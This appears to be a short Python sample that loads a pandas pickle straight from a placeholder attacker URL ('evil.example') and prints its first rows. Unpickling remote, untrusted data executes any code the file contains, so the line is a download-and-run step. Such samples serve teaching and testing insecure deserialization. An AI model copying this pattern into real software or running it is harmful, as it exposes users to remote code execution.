import pandas as pd
styles = pd.io.pickle.read_pickle("https://evil.example/styles.pkl")
print(styles.head())
